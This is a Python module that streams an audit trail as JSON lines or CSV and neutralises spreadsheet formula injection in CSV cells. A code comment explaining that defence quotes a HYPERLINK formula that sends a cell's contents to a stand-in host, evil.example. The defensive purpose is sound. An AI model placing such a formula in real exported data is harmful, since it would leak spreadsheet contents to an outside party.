"""The audit trail's two file formats: JSON lines (one
`json.dumps(row, sort_keys=True)` per row) and CSV (the details column
holds the same sorted JSON; a cell a spreadsheet would run as a formula is
written as text, `_as_text`). Rows are written as they come, in chunks of
`CHUNK` rows: nothing here holds more than one chunk."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Iterable, Iterator
from typing import Any

from bot.service.errors import BadRequest

# Rows per chunk of text: one `write` (and one generator step) per few
# hundred kilobytes rather than per row.
CHUNK = 500

AUDIT_FIELDS = (
    "change",
    "seq",
    "at",
    "actor",
    "actor_team",
    "event",
    "from_state",
    "to_state",
    "vm",
    "host",
    "requester",
    "requester_team",
    "message",
    # The batch (patch wave) the change is a member of; empty for a change
    # asked for alone and for a settings change.
    "batch",
)

_DETAILS = json.JSONEncoder(sort_keys=True)

# How a cell a spreadsheet would read as a formula begins (OWASP, CSV
# Injection: https://owasp.org/www-community/attacks/CSV_Injection). A
# change's reason is whatever its requester typed in Slack or the CLI, so
# `=HYPERLINK("http://evil.example/?x="&A1,"click")` would otherwise run
# when an auditor opens the export.
_FORMULA_START = frozenset("=+-@\t\r")


def _as_text(cells: list[Any]) -> list[Any]:
    """The cells, each text one that begins as a formula behind a `'`, which
    spreadsheets read as "the rest is text". Numbers (`seq`) are written as
    numbers: a spreadsheet reads `-1` as one, never as a formula. The JSON
    lines are left as recorded: they are data for programs, not a sheet."""
    return [
        "'" + cell if isinstance(cell, str) and cell[:1] in _FORMULA_START else cell
        for cell in cells
    ]


def _sorted_json() -> Callable[[Any], str]:
    """`json.dumps(value, sort_keys=True)`, the same bytes, made once.

    `dumps` builds a `JSONEncoder` and `encode` builds CPython's C encoder
    (`_json.make_encoder`) on every call, a third of the time of encoding
    a typical event's details (measured at 100,000 changes); here the C
    encoder is built once, with the arguments
    `JSONEncoder.iterencode` gives it for these options
    (https://github.com/python/cpython/blob/3.11/Lib/json/encoder.py), and
    checked against `json.dumps` before it is used. Where it is missing or
    takes other arguments (another Python), `encode` it is."""
    encode = _DETAILS.encode
    make = getattr(json.encoder, "c_make_encoder", None)
    if make is None:
        return encode
    try:
        c_encode = make(
            None,  # markers: no circularity check, as rows are fresh trees
            _DETAILS.default,
            json.encoder.encode_basestring_ascii,
            None,  # indent
            _DETAILS.key_separator,
            _DETAILS.item_separator,
            True,  # sort_keys
            False,  # skipkeys
            True,  # allow_nan
        )
        probe = {"b": [1, 2.5, None, True, "\u00e9\n"], "a": {"d": {}, "c": []}}
        if "".join(c_encode(probe, 0)) != json.dumps(probe, sort_keys=True):
            return encode
    except TypeError:
        return encode

    def fast(value: Any) -> str:
        return "".join(c_encode(value, 0))

    return fast


encode_sorted = _sorted_json()


def export_audit(rows: Iterable[dict[str, Any]], fmt: str) -> Iterator[str]:
    """The rows as text, a chunk of up to `CHUNK` rows at a time (CSV: the
    header first)."""
    if fmt == "jsonl":
        encode = encode_sorted
        lines: list[str] = []
        for row in rows:
            lines.append(encode(row))
            if len(lines) == CHUNK:
                lines.append("")
                yield "\n".join(lines)
                lines.clear()
        if lines:
            lines.append("")
            yield "\n".join(lines)
        return
    if fmt != "csv":
        raise BadRequest(f"unknown format '{fmt}': use jsonl or csv")
    encode = encode_sorted
    buffer = io.StringIO()
    # csv.writer with the values in field order is what DictWriter does
    # for a row with every field, minus its per-row check for stray keys
    # (https://docs.python.org/3/library/csv.html#csv.DictWriter). Every
    # cell of text is quoted, as OWASP's advice on CSV injection also has
    # it: a spreadsheet in a locale whose list separator is `;` then keeps
    # a reason's `;` inside its cell instead of starting a new one there.
    # Numbers (`seq`) stay bare, so they are still read as numbers.
    writer = csv.writer(buffer, quoting=csv.QUOTE_NONNUMERIC)
    writer.writerow([*AUDIT_FIELDS, "details"])
    count = 0
    for row in rows:
        cells = [row.get(key, "") for key in AUDIT_FIELDS]
        cells.append(encode(row["details"]))
        writer.writerow(_as_text(cells))
        count += 1
        if count == CHUNK:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
            count = 0
    yield buffer.getvalue()
